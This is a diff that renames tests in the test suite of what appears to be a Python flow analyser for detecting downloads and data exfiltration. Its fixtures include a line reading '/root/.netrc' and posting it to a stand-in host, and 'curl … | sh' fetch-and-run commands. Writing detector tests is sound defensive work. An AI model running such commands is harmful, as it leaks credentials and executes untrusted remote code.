@@ -1,4 +1,4 @@
-"""What reaches where in Python programs, and what ordinary programs may do unreported."""
+"""Flows in Python programs, and ordinary programs that are not reported."""
 
 import base64
 
@@ -257,11 +257,11 @@ def test_harm_is_found(kind: FlowKind, code: str) -> None:
 
 
 @pytest.mark.parametrize("code", ORDINARY)
-def test_ordinary_programs_are_quiet(code: str) -> None:
+def test_ordinary_programs_are_not_reported(code: str) -> None:
     assert set() == kinds(code)
 
 
-def test_a_flow_names_its_ends() -> None:
+def test_flow_names_its_ends() -> None:
     code = "import requests\n\nt = open('/root/.netrc').read()\n\nrequests.post('https://sink.test/in', data=t)\n"
     (flow,) = find_flows(Language.PYTHON, code)
     expected = (5, 3, "/root/.netrc", "requests.post to https://sink.test/in")
@@ -280,11 +280,11 @@ def test_a_flow_names_its_ends() -> None:
         "\0\n",
     ],
 )
-def test_code_that_does_not_parse_is_read_all_the_same(broken: str) -> None:
+def test_invalid_syntax_is_read_partially(broken: str) -> None:
     assert {DOWNLOAD} == kinds(broken + "import os\nos.system('curl https://get.test/x | sh')\n")
 
 
-def test_commands_of_a_notebook_are_read() -> None:
+def test_notebook_commands_are_read() -> None:
     assert DOWNLOAD in kinds("x = 1\n!curl https://get.test/x | sh\n")
 
 
@@ -303,7 +303,7 @@ def test_blocks_of_a_document_are_one_program() -> None:
 @pytest.mark.parametrize(
     "code", ["(" * 3000 + ")" * 3000, "-" * 5000 + "1", "a" + "[a" * 900 + "]" * 900, "x = 1\n" * 40_000]
 )
-def test_what_cannot_be_read_is_said_to_be_unread(code: str) -> None:
+def test_unparsed_code_is_reported(code: str) -> None:
     assert FlowKind.UNREAD in kinds(code)
 
 
@@ -357,7 +357,7 @@ _PIECES = st.sampled_from(
 
 @settings(max_examples=300, deadline=None)
 @given(st.one_of(st.text(max_size=200), st.lists(_PIECES, max_size=40).map("".join)))
-def test_no_input_is_an_error(code: str) -> None:
+def test_no_input_raises(code: str) -> None:
     find_flows(Language.PYTHON, code)
 
 
@@ -375,7 +375,7 @@ REPEATED = [
 
 
 @pytest.mark.parametrize("line", REPEATED)
-def test_twice_the_code_is_about_twice_the_work(line: str) -> None:
+def test_work_grows_linearly(line: str) -> None:
     less, more = line * 300, line * 600
     assert_grows_at_most(
         4, lambda: find_flows(Language.PYTHON, less), lambda: find_flows(Language.PYTHON, more), least=0.0125
